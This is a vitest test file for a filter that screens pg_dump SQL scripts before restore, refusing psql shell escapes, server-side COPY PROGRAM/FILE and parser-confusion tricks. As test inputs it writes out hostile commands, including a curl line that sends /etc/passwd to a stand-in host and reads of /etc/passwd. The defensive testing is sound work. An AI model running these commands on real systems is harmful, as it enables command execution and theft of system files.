import { describe, expect, it } from 'vitest';
import { filterPlainScript, PlainScriptFilter, ScriptRefused, type PlainScriptOptions } from '../../src/main/backups/plain-script';

/** What `pg_dump app > backup.sql` writes with pg_dump 15.14 (which adds \restrict), shortened. */
const DUMP = `--
-- PostgreSQL database dump
--

\\restrict abc

-- Dumped from database version 15.4 (Debian 15.4-1.pgdg120+1)
-- Dumped by pg_dump version 15.14 (Debian 15.14-0+deb12u1)

SET statement_timeout = 0;
SET lock_timeout = 0;
SET idle_in_transaction_session_timeout = 0;
SET client_encoding = 'UTF8';
SET standard_conforming_strings = on;
SELECT pg_catalog.set_config('search_path', '', false);
SET check_function_bodies = false;
SET xmloption = content;
SET client_min_messages = warning;
SET row_security = off;

--
-- Name: touch_updated_at(); Type: FUNCTION; Schema: public; Owner: admin
--

CREATE FUNCTION public.touch_updated_at() RETURNS trigger
    LANGUAGE plpgsql
    AS $$
BEGIN
  NEW.updated_at := now(); -- a backslash in a body is text: \\! echo
  RETURN NEW;
END;
$$;


ALTER FUNCTION public.touch_updated_at() OWNER TO admin;

SET default_tablespace = '';

SET default_table_access_method = heap;

--
-- Name: products; Type: TABLE; Schema: public; Owner: admin
--

CREATE TABLE public.products (
    id integer NOT NULL,
    title text NOT NULL,
    price numeric(10,2) DEFAULT 0 NOT NULL
);


ALTER TABLE public.products OWNER TO admin;

--
-- Name: users; Type: TABLE; Schema: public; Owner: admin
--

CREATE TABLE public.users (
    id integer NOT NULL,
    email text NOT NULL,
    name text,
    updated_at timestamp with time zone DEFAULT now() NOT NULL,
    CONSTRAINT users_email_check CHECK ((email ~~ '%@%'::text))
);


ALTER TABLE public.users OWNER TO admin;

--
-- Name: users_id_seq; Type: SEQUENCE; Schema: public; Owner: admin
--

CREATE SEQUENCE public.users_id_seq
    AS integer
    START WITH 1
    INCREMENT BY 1
    NO MINVALUE
    NO MAXVALUE
    CACHE 1;


ALTER SEQUENCE public.users_id_seq OWNER TO admin;

--
-- Name: users_id_seq; Type: SEQUENCE OWNED BY; Schema: public; Owner: admin
--

ALTER SEQUENCE public.users_id_seq OWNED BY public.users.id;


--
-- Name: users id; Type: DEFAULT; Schema: public; Owner: admin
--

ALTER TABLE ONLY public.users ALTER COLUMN id SET DEFAULT nextval('public.users_id_seq'::regclass);


--
-- Data for Name: products; Type: TABLE DATA; Schema: public; Owner: admin
--

COPY public.products (id, title, price) FROM stdin;
1	Widget	9.99
2	Gadget	\\N
\\.


--
-- Data for Name: users; Type: TABLE DATA; Schema: public; Owner: admin
--

COPY public.users (id, email, name, updated_at) FROM stdin;
1	ann@example.com	Ann	2024-01-01 10:00:00+00
2	bob@example.com	\\N	2024-01-02 11:30:00+00
3	c'd@example.com	Tab\\there \\! not a command	2024-01-03 12:00:00+00
\\.


--
-- Name: users_id_seq; Type: SEQUENCE SET; Schema: public; Owner: admin
--

SELECT pg_catalog.setval('public.users_id_seq', 3, true);


--
-- Name: users users_pkey; Type: CONSTRAINT; Schema: public; Owner: admin
--

ALTER TABLE ONLY public.users
    ADD CONSTRAINT users_pkey PRIMARY KEY (id);


--
-- Name: users_email_idx; Type: INDEX; Schema: public; Owner: admin
--

CREATE UNIQUE INDEX users_email_idx ON public.users USING btree (email);


--
-- Name: TABLE users; Type: ACL; Schema: public; Owner: admin
--

GRANT SELECT ON TABLE public.users TO reporting;
REVOKE ALL ON TABLE public.products FROM PUBLIC;


--
-- PostgreSQL database dump complete
--

\\unrestrict abc

`;

const lineCount = (text: string) => text.split('\n').length;
const lineOf = (text: string, needle: string) => text.split('\n').findIndex((line) => line.includes(needle)) + 1;

/** The ScriptRefused that `read` throws. */
function refusedBy(read: () => unknown): ScriptRefused {
  try {
    read();
  } catch (error) {
    if (error instanceof ScriptRefused) return error;
    throw error;
  }
  throw new Error('the script was not refused');
}

const refusal = (text: string, options?: PlainScriptOptions) => refusedBy(() => filterPlainScript(text, options));

describe('a pg_dump plain dump', () => {
  it('passes through unchanged', () => {
    expect(filterPlainScript(DUMP).output).toBe(DUMP);
  });

  it('is summarised', () => {
    expect(filterPlainScript(DUMP).summary).toEqual({
      tables: ['public.products', 'public.users'],
      rowCounts: { 'public.products': 2, 'public.users': 3 },
      schemas: ['public'],
      settings: [
        'statement_timeout',
        'lock_timeout',
        'idle_in_transaction_session_timeout',
        'client_encoding',
        'standard_conforming_strings',
        'search_path',
        'check_function_bodies',
        'xmloption',
        'client_min_messages',
        'row_security',
        'default_tablespace',
        'default_table_access_method',
      ],
      roles: ['admin', 'reporting'],
      sourceServerVersion: '15.4',
      toolVersion: '15.14',
      complete: true,
      lines: lineCount(DUMP) - 1,
      skipped: [],
    });
  });

  it('names tables and schemas unquoted, roles as PostgreSQL folds them', () => {
    const script = [
      'CREATE SCHEMA "Sales";',
      'CREATE UNLOGGED TABLE IF NOT EXISTS "Sales"."Order""s" (id integer);',
      'CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA extensions;',
      'COPY "Sales"."Order""s" (id) FROM stdin;',
      '1',
      '\\.',
      'ALTER TABLE "Sales"."Order""s" OWNER TO "Admin";',
      "SET SESSION AUTHORIZATION 'loader';",
      'GRANT SELECT, INSERT ON TABLE "Sales"."Order""s" TO Reporting, "Bob" WITH GRANT OPTION;',
      '',
    ].join('\n');
    const { output, summary } = filterPlainScript(script);
    expect(output).toBe(script);
    expect(summary).toMatchObject({
      tables: ['Sales.Order"s'],
      rowCounts: { 'Sales.Order"s': 1 },
      schemas: ['Sales', 'extensions'],
      roles: ['Admin', 'loader', 'reporting', 'Bob'],
    });
  });

  it('gives the same output however it is cut into chunks', () => {
    const filter = new PlainScriptFilter({ dropOwnership: true, dropPrivileges: true });
    let output = '';
    for (const character of DUMP) output += filter.push(character);
    output += filter.end();
    expect(output).toBe(filterPlainScript(DUMP, { dropOwnership: true, dropPrivileges: true }).output);
    expect(filter.summary).toEqual(filterPlainScript(DUMP, { dropOwnership: true, dropPrivileges: true }).summary);
  });

  it('returns only complete lines while it reads, and the rest at the end', () => {
    const filter = new PlainScriptFilter();
    expect(filter.push('SELECT 1;\nSELECT')).toBe('SELECT 1;\n');
    expect(filter.push(' 2;')).toBe('');
    expect(filter.end()).toBe('SELECT 2;\n');
    expect(filter.summary.lines).toBe(2);
  });
});

describe('options', () => {
  const options = { dropOwnership: true, dropPrivileges: true, skipSettings: new Set(['search_path', 'row_security']) };

  it('replace ownership, privileges and skipped settings with comment lines, line for line', () => {
    const { output, summary } = filterPlainScript(DUMP, options);
    const lines = output.split('\n');
    expect(lines).toHaveLength(DUMP.split('\n').length);
    const at = (needle: string) => lines[lineOf(DUMP, needle) - 1];
    expect(at('ALTER TABLE public.users OWNER TO admin;')).toBe('-- [skipped by Simple DB: ownership]');
    expect(at('ALTER FUNCTION public.touch_updated_at() OWNER TO admin;')).toBe('-- [skipped by Simple DB: ownership]');
    expect(at('GRANT SELECT ON TABLE public.users TO reporting;')).toBe('-- [skipped by Simple DB: privileges]');
    expect(at('REVOKE ALL ON TABLE public.products FROM PUBLIC;')).toBe('-- [skipped by Simple DB: privileges]');
    expect(at("SELECT pg_catalog.set_config('search_path', '', false);")).toBe('-- [skipped by Simple DB: setting]');
    expect(at('SET row_security = off;')).toBe('-- [skipped by Simple DB: setting]');
    // Kept: not ownership (OWNED BY), other settings, the data.
    expect(at('ALTER SEQUENCE public.users_id_seq OWNED BY public.users.id;')).toBe('ALTER SEQUENCE public.users_id_seq OWNED BY public.users.id;');
    expect(at('SET lock_timeout = 0;')).toBe('SET lock_timeout = 0;');
    expect(at('1\tWidget\t9.99')).toBe('1\tWidget\t9.99');
    expect(summary.skipped).toContainEqual({
      line: lineOf(DUMP, 'ALTER TABLE public.users OWNER TO admin;'),
      reason: 'ownership',
      text: 'ALTER TABLE public.users OWNER TO admin;',
    });
    expect(summary.skipped.map((entry) => entry.reason)).toEqual([
      'setting',
      'setting',
      'ownership',
      'ownership',
      'ownership',
      'ownership',
      'privileges',
      'privileges',
    ]);
    // The summary still names what the file sets and who it names.
    expect(summary.settings).toContain('search_path');
    expect(summary.roles).toEqual(['admin', 'reporting']);
  });

  it('replace every line of a statement that spans several', () => {
    const script = 'SELECT 1;\nALTER TABLE public.products\n    OWNER TO admin;\nSET ROLE admin;\nSET SESSION AUTHORIZATION "Owner";\nSELECT 2;\n';
    const { output, summary } = filterPlainScript(script, { dropOwnership: true });
    expect(output).toBe(
      'SELECT 1;\n-- [skipped by Simple DB: ownership]\n-- [skipped by Simple DB: ownership]\n-- [skipped by Simple DB: ownership]\n-- [skipped by Simple DB: ownership]\nSELECT 2;\n',
    );
    expect(summary.skipped[0]).toEqual({ line: 2, reason: 'ownership', text: 'ALTER TABLE public.products OWNER TO admin;' });
    expect(summary.roles).toEqual(['admin', 'Owner']);
  });

  it('keep what shares a line with a replaced statement', () => {
    const { output } = filterPlainScript('SELECT 1; ALTER TABLE t OWNER TO bob; SELECT 2;\n', { dropOwnership: true });
    expect(output).toBe('SELECT 1; /* [skipped by Simple DB: ownership] */ SELECT 2;\n');
  });

  it('replace a skipped setting the older server does not know', () => {
    const script = "SET transaction_timeout = 0;\nSELECT pg_catalog.set_config('transaction_timeout', '0', false);\nSET lock_timeout = 0;\n";
    expect(filterPlainScript(script, { skipSettings: new Set(['transaction_timeout']) }).output).toBe(
      '-- [skipped by Simple DB: setting]\n-- [skipped by Simple DB: setting]\nSET lock_timeout = 0;\n',
    );
  });

  it('keep \\restrict lines by default, and comment them out on request', () => {
    expect(filterPlainScript('\\restrict abc\nSELECT 1;\n\\unrestrict abc\n').output).toBe('\\restrict abc\nSELECT 1;\n\\unrestrict abc\n');
    const { output, summary } = filterPlainScript('\\restrict abc\nSELECT 1;\n\\unrestrict abc\n', { keepRestrict: false });
    expect(output).toBe('-- [skipped by Simple DB: restrict]\nSELECT 1;\n-- [skipped by Simple DB: restrict]\n');
    expect(summary.skipped.map((entry) => entry.line)).toEqual([1, 3]);
  });
});

describe('what pg_dump -C writes for another database', () => {
  const script = [
    "CREATE DATABASE app WITH TEMPLATE = template0 ENCODING = 'UTF8' LOCALE_PROVIDER = libc LOCALE = 'en_US.UTF-8';",
    '',
    '',
    'ALTER DATABASE app OWNER TO admin;',
    '',
    '\\connect app',
    '',
    "COMMENT ON DATABASE app IS 'the app';",
    'GRANT CONNECT ON DATABASE app TO reporting;',
    'DROP DATABASE IF EXISTS old;',
    'SELECT 1;',
    '',
  ].join('\n');

  it('becomes comment lines', () => {
    const { output, summary } = filterPlainScript(script);
    expect(output.split('\n')).toEqual([
      '-- [skipped by Simple DB: database]',
      '',
      '',
      '-- [skipped by Simple DB: database]',
      '',
      '-- [skipped by Simple DB: connect]',
      '',
      '-- [skipped by Simple DB: database]',
      '-- [skipped by Simple DB: database]',
      '-- [skipped by Simple DB: database]',
      'SELECT 1;',
      '',
    ]);
    expect(summary.skipped.map(({ line, reason }) => [line, reason])).toEqual([
      [1, 'database'],
      [4, 'database'],
      [6, 'connect'],
      [8, 'database'],
      [9, 'database'],
      [10, 'database'],
    ]);
    expect(summary.skipped[2]?.text).toBe('\\connect app');
  });

  it('\\c is \\connect too', () => {
    expect(filterPlainScript('\\c other\nSELECT 1;\n').output).toBe('-- [skipped by Simple DB: connect]\nSELECT 1;\n');
  });
});

describe('psql commands are refused', () => {
  it('\\! at line N, with its line', () => {
    const script = 'SELECT 1;\n\nSELECT 2;\n\\! touch /tmp/x\nSELECT 3;\n';
    expect(refusal(script)).toMatchObject({ line: 4, command: '\\!', text: '\\! touch /tmp/x' });
    expect(refusal(script).message).toContain('Line 4');
  });

  it('anywhere on a line, after a statement', () => {
    expect(refusal('SELECT 1; \\o |cat\n')).toMatchObject({ line: 1, command: '\\o' });
  });

  it.each([
    ["\\copy x from program 'id'", '\\copy'],
    ['\\i /etc/passwd', '\\i'],
    ['\\ir x.sql', '\\ir'],
    ['\\set ON_ERROR_STOP 0', '\\set'],
    ['\\gexec', '\\gexec'],
    ['SELECT 1 \\g /tmp/out', '\\g'],
    ['\\w /tmp/out', '\\w'],
    ['\\cd /', '\\cd'],
    ['\\setenv PAGER x', '\\setenv'],
    ["\\lo_import '/etc/passwd'", '\\lo_import'],
    ['\\lo_export 1 /tmp/x', '\\lo_export'],
    ['\\password postgres', '\\password'],
    ['\\.', '\\.'],
    ['SELECT 1\\; SELECT 2;', '\\;'],
    ['\\restrict abc \\! id', '\\restrict'],
    ['\\connectx db', '\\connectx'],
  ])('%s', (line, command) => {
    expect(refusal(`SELECT 0;\n${line}\n`)).toMatchObject({ line: 2, command });
  });

  it('also where a string or comment has just ended', () => {
    expect(refusal("SELECT 'a'\\! id\n").command).toBe('\\!');
    expect(refusal('SELECT /* x */ \\! id\n').command).toBe('\\!');
    expect(refusal('SELECT 1; /* a\n b */ \\! id\n')).toMatchObject({ line: 2, command: '\\!' });
    expect(refusal('SELECT $$ a $$ \\! id;\n').command).toBe('\\!');
    // psql ends a -- comment at a \r too, not only at the end of the line.
    expect(refusal('SELECT 1; -- x\r\\! id\n').command).toBe('\\!');
  });

  it('and \\connect only alone on its line, between statements', () => {
    expect(refusal('SELECT 1; \\connect other\n').command).toBe('\\connect');
    expect(refusal('SELECT 1\n\\connect other\n;\n')).toMatchObject({ line: 2, command: '\\connect' });
  });
});

describe('a backslash in quoted text or a comment is not a command', () => {
  it.each([
    ["SELECT 'C:\\temp\\! x';", 'a plain string'],
    ["SELECT 'multi\n\\! line';", 'a string over two lines'],
    ["SELECT E'it\\'s \\! x';", "an E string with \\'"],
    ["SELECT e'\\\\';", 'an e string ending in \\\\'],
    ['SELECT 1 AS "ident\\! x";', 'a quoted identifier'],
    ["SELECT U&'d\\0061t\\0061';", 'a U& string'],
    ['SELECT $$ \\! x $$;', 'a dollar-quoted string'],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $fn$ SELECT 1; -- $$ \\! x\n$fn$;', 'a tagged dollar-quoted body'],
    ['SELECT 1; -- \\! x', 'a -- comment'],
    ['/* outer /* inner */ still a comment \\! x */ SELECT 1;', 'a nested /* */ comment'],
    ['/* a\n\\! x\n*/ SELECT 1;', 'a comment over several lines'],
  ])('%s (%s)', (script) => {
    const text = `${script}\n`;
    expect(filterPlainScript(text).output).toBe(text);
  });

  it('COPY data may hold backslashes, down to the \\. line', () => {
    const script = 'COPY t (a) FROM stdin;\n\\! not a command\n\\N\n\\.\nSELECT 1;\n';
    const { output, summary } = filterPlainScript(script);
    expect(output).toBe(script);
    expect(summary.rowCounts).toEqual({ t: 2 });
  });

  it('but after \\. the lines are SQL again', () => {
    expect(refusal('COPY t (a) FROM stdin;\n1\n\\.\n\\! id\n')).toMatchObject({ line: 4, command: '\\!' });
  });

  it('a data block that never ends is left to psql', () => {
    expect(filterPlainScript('COPY t FROM stdin;\n1\n2').output).toBe('COPY t FROM stdin;\n1\n2\n');
  });
});

describe('server-side programs and files are refused', () => {
  it.each([
    ["COPY x FROM PROGRAM 'id';", 'COPY PROGRAM'],
    ["copy x to program 'curl -d @/etc/passwd evil';", 'COPY PROGRAM'],
    ["COPY x FROM '/etc/passwd';", 'COPY FILE'],
    ["COPY (SELECT 1) TO '/tmp/x';", 'COPY FILE'],
    ['COPY x FROM $$/etc/passwd$$;', 'COPY FILE'],
    ["COPY x FROM E'/etc/passwd';", 'COPY FILE'],
    ['COPY x FROM stdin WITH (FORMAT binary);', 'COPY BINARY'],
  ])('%s', (statement, command) => {
    expect(refusal(`SELECT 1;\n${statement}\n`)).toMatchObject({ line: 2, command });
  });

  it('with the line where the statement starts, and nothing of it returned', () => {
    const filter = new PlainScriptFilter();
    expect(filter.push('SELECT 1;\nCOPY x\n  FROM\n')).toBe('SELECT 1;\n');
    expect(refusedBy(() => filter.push("  PROGRAM 'id';\nSELECT 2;\n"))).toMatchObject({ line: 2, command: 'COPY PROGRAM' });
  });

  it('even as a last statement without its semicolon, which psql still sends', () => {
    expect(refusal("SELECT 1;\nCOPY x FROM PROGRAM 'id'")).toMatchObject({ line: 2, command: 'COPY PROGRAM' });
  });

  it('COPY … TO STDOUT is fine', () => {
    expect(filterPlainScript('COPY (SELECT 1) TO STDOUT;\n').output).toBe('COPY (SELECT 1) TO STDOUT;\n');
  });

  it('and COPY FROM stdin must end its line, or psql would run the rest after the data', () => {
    expect(refusal('COPY t FROM stdin; \\! id\n1\n\\.\n').command).toBe('\\!');
    expect(refusal('COPY t FROM stdin; SELECT 1;\n1\n\\.\n').command).toBe('COPY');
    expect(filterPlainScript('COPY t FROM stdin; -- data\n1\n\\.\n').summary.rowCounts).toEqual({ t: 1 });
  });
});

describe('after a refusal', () => {
  it('nothing of the bad line or after it was ever returned, and the filter stays refused', () => {
    const filter = new PlainScriptFilter();
    const script = 'SELECT 1;\nSELECT 2;\n\\! touch /tmp/x\nSELECT 3;\n';
    let output = '';
    let refused: unknown;
    for (const character of script) {
      try {
        output += filter.push(character);
      } catch (error) {
        refused = error;
        break;
      }
    }
    expect(refused).toBeInstanceOf(ScriptRefused);
    expect(output).toBe('SELECT 1;\nSELECT 2;\n');
    expect(() => filter.push('SELECT 4;\n')).toThrow(ScriptRefused);
    expect(() => filter.end()).toThrow(ScriptRefused);
  });
});

describe('line preservation', () => {
  it('the output has as many lines as the input, whatever is replaced', () => {
    const script = `${DUMP}\\connect other\nCREATE DATABASE x;\nGRANT a\n  TO b;\nSELECT 1; ALTER TABLE t\nOWNER TO c; SELECT 2;\nlast line without newline`;
    const { output } = filterPlainScript(script, { dropOwnership: true, dropPrivileges: true });
    expect(lineCount(output)).toBe(lineCount(script) + 1); // the last line gets its \n
    expect(
      output.endsWith(
        'SELECT 1; /* [skipped by Simple DB: ownership] */\n/* [skipped by Simple DB: ownership] */ SELECT 2;\nlast line without newline\n',
      ),
    ).toBe(true);
  });

  it('psql error line numbers stay those of the file, also with \\r\\n line ends', () => {
    const script = 'SELECT 1;\r\nALTER TABLE t OWNER TO a;\r\nCOPY t FROM stdin;\r\n1\r\n\\.\r\nSELECT 2;\r\n';
    const { output, summary } = filterPlainScript(script, { dropOwnership: true });
    expect(output).toBe('SELECT 1;\r\n-- [skipped by Simple DB: ownership]\nCOPY t FROM stdin;\r\n1\r\n\\.\r\nSELECT 2;\r\n');
    expect(summary.rowCounts).toEqual({ t: 1 });
  });
});

describe('where psql could read the text differently, the script is refused', () => {
  it("a '…' string whose end depends on standard_conforming_strings", () => {
    // With it off (which a function can set unseen), psql would read \' as a quote inside the string.
    expect(refusal("SELECT 'a\\';\n\\! id --';\n")).toMatchObject({ line: 1, command: 'STRING' });
    expect(refusal("SET standard_conforming_strings = off;\nSELECT 'a\\'';\n\\! id\n").command).toBe('STRING');
  });

  it("but not a '…' string that ends at the same place either way", () => {
    const script = "SET standard_conforming_strings = off;\nSELECT 'it''s C:\\\\dir\\\\', 'a\\\\''b';\n";
    expect(filterPlainScript(script).output).toBe(script);
  });

  it('quote continuation over a \\r keeps the E string going', () => {
    // psql joins 'a' \r '…' into one E string, so the \' does not end it and \! stays text.
    const script = "SELECT E'a'\r'\\' \\! id';\n";
    expect(filterPlainScript(script).output).toBe(script);
  });

  it('numbers that run into letters, which psql 14, 15 and 16 split differently', () => {
    expect(refusal("SELECT 1e'\\' \\! id';\n").command).toBe('NUMBER');
    expect(refusal('SELECT 0x1F;\n').command).toBe('NUMBER');
    expect(refusal('CREATE FUNCTION f() 1begin;\n').command).toBe('NUMBER');
  });

  it("psql's own variables, whose values it reads as SQL", () => {
    expect(refusal('SELECT :DBNAME;\n').command).toBe(':DBNAME');
    expect(filterPlainScript("SELECT 1::int, :'DBNAME', arr[1:2];\n").output).toBe("SELECT 1::int, :'DBNAME', arr[1:2];\n");
  });

  it('a client encoding in which a character can hide a quote', () => {
    expect(refusal("SET client_encoding = 'SJIS';\n")).toMatchObject({ line: 1, command: 'SET client_encoding' });
    expect(refusal("SELECT pg_catalog.set_config('client_encoding', 'big5', false);\n").command).toBe('SET client_encoding');
    expect(refusal('SET NAMES gbk;\n').command).toBe('SET client_encoding');
  });

  it('a NUL character, where psql cuts the line', () => {
    expect(refusal("SELECT 1 \0 '\n\\! id\n';\n")).toMatchObject({ line: 1, command: 'NUL' });
  });

  it('COPY inside what psql sends as one statement', () => {
    // psql ≥ 14 takes "begin" after CREATE FUNCTION for a BEGIN ATOMIC body and keeps on reading.
    const script = "CREATE FUNCTION begin() RETURNS int LANGUAGE sql AS 'SELECT 1';\nCOPY t FROM stdin;\n\\! id\nEND;\n";
    expect(refusal(script)).toMatchObject({ line: 2, command: 'COPY' });
  });

  it('while a real BEGIN ATOMIC body is one statement', () => {
    const script =
      'CREATE FUNCTION public.add(a integer) RETURNS integer\n    LANGUAGE sql\n    BEGIN ATOMIC\n SELECT (a + 1);\nEND;\nALTER FUNCTION public.add(a integer) OWNER TO admin;\n';
    const { output } = filterPlainScript(script, { dropOwnership: true });
    expect(output.split('\n').slice(0, 5).join('\n')).toBe(script.split('\n').slice(0, 5).join('\n'));
    expect(output.split('\n')[5]).toBe('-- [skipped by Simple DB: ownership]');
  });
});

describe('transaction control inside the file', () => {
  it('comments out pg_dump’s BEGIN/COMMIT (around large objects), keeping the line count', () => {
    const text = ['BEGIN;', '', "SELECT pg_catalog.lo_open('16400', 131072);", 'COMMIT;', 'END;', 'START TRANSACTION;', ''].join('\n');
    const { output, summary } = filterPlainScript(text);
    expect(output.split('\n')).toHaveLength(text.split('\n').length);
    expect(output).not.toMatch(/^(BEGIN|COMMIT|END|START TRANSACTION);/m);
    expect(output).toContain("SELECT pg_catalog.lo_open('16400', 131072);");
    expect(summary.skipped.map((entry) => entry.reason)).toEqual(['transaction', 'transaction', 'transaction', 'transaction']);
  });

  it('refuses ROLLBACK, ABORT and PREPARE TRANSACTION, naming the line', () => {
    for (const [statement, command] of [
      ['ROLLBACK;', 'ROLLBACK'],
      ['abort;', 'ABORT'],
      ["PREPARE TRANSACTION 'x';", 'PREPARE TRANSACTION'],
    ] as const) {
      expect(() => filterPlainScript(`SELECT 1;\n${statement}\n`)).toThrow(expect.objectContaining({ line: 2, command }));
    }
    // A prepared statement is not a transaction.
    expect(filterPlainScript('PREPARE q AS SELECT 1;\n').output).toBe('PREPARE q AS SELECT 1;\n');
  });
});
